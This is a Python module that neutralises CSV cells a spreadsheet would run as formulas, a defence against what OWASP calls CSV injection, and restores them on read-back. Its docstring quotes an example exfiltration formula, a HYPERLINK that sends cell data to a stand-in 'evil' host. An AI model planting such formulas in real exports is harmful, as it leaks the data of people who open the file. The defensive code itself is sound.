"""CSV cells that a spreadsheet program will not run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula, so a label such as `=HYPERLINK("http://evil/?"&A1)` written raw into
an export runs when the file is opened. Every CSV the registry writes goes through `safe_writer`,
which prefixes such cells with `'` (shown as text, not stored by the program); readers of CSV the
registry wrote itself (the spreadsheet template, mapping CSV) take the prefix off with `restore`,
so an export read back in gives the same values.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value: Any) -> Any:
    """`value` with a `'` in front when a spreadsheet would read it as a formula; other values
    (numbers, None, safe strings) as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def restore(value: str) -> str:
    """The value `neutralise` was given: a leading `'` before a formula character comes off."""
    if value.startswith(QUOTE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


class _SafeWriter:
    """csv.writer's interface, every cell neutralised."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(output: Any, **options: Any) -> _SafeWriter:
    """A csv.writer over `output` that never writes a cell a spreadsheet would run."""
    return _SafeWriter(csv.writer(output, **options))
